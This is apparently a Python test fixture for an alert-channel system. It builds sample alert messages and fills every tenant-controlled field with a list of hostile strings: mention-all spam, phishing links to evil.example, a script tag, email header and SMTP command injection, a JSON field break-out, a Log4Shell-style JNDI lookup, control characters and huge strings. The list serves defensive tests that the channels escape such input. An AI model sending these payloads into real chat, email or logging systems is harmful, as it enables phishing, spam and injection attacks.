"""Messages for the tests of alert channels, also those of a tenant who means harm."""

from datetime import UTC, datetime, timedelta
from typing import Any

from horae.domain.alerts.kinds import AlertKind, AlertSeverity
from horae.domain.alerts.messages import AlertMessage, AlertStatus, message_id

OPENED_AT = datetime(2026, 11, 17, 3, 0, tzinfo=UTC)
GROUP = "acme/dead_letter/invoices"
CONSOLE = "https://horae.example.com/console/alerts/7"
RUNBOOK = "https://wiki.example.com/invoices"
ENEMY_TEXTS = (
    "@all",
    "@everyone <!channel> <!here|now> <@U123>",
    '<at user_id="all">everyone</at><at id=all></at>',
    "<@all> <@zhang.san>",
    "[click here](https://evil.example/steal)",
    "![](https://evil.example/pixel.png)",
    "<https://evil.example|your console>",
    "https://evil.example/login",
    "**bold** _it_ `code` # head ~~no~~ | a | b |",
    "x](https://evil.example) [y",
    '<font color="warning">red</font><script>alert(1)</script>',
    "a\r\nBcc: victim@evil.example\r\n\r\nbody",
    "a\r\n.\r\nMAIL FROM:<x@evil.example>",
    "line\u2028line\u202ereversed\u200b\x00\x1b[31m\ud800",
    '","msgtype":"text","at":{"isAtAll":true},"x":"',
    "&lt;!channel&gt; &amp;lt;",
    "{{ .Alerts }} ${jndi:ldap://evil.example} %0d%0aX: 1",
    "漢" * 5000,
    "😀" * 5000,
    "W" * 100_000,
)


def a_message(status: AlertStatus = AlertStatus.FIRING, **facts: Any) -> AlertMessage:
    known: dict[str, Any] = {
        "id": message_id(GROUP, OPENED_AT, status),
        "group_key": GROUP,
        "status": status,
        "kind": AlertKind.DEAD_LETTER,
        "severity": AlertSeverity.CRITICAL,
        "tenant": "acme",
        "opened_at": OPENED_AT,
        "reason": "the target answered 503 in 5 attempts",
        "job": "invoices",
        "owner": "payments",
        "count": 214,
        "link": CONSOLE,
        "runbook": RUNBOOK,
        "resolved_at": OPENED_AT + timedelta(minutes=9) if status == AlertStatus.RESOLVED else None,
    }
    return AlertMessage(**(known | facts))


def an_enemys_message(text: str) -> AlertMessage:
    """A message with the text in every place that a tenant can fill."""
    return a_message(
        tenant=text,
        job=text,
        owner=text,
        label=text,
        reason=text,
        runbook=text,
        group_key=text,
        id=text,
        extra={f"{text}{number}": text for number in range(20)},
    )
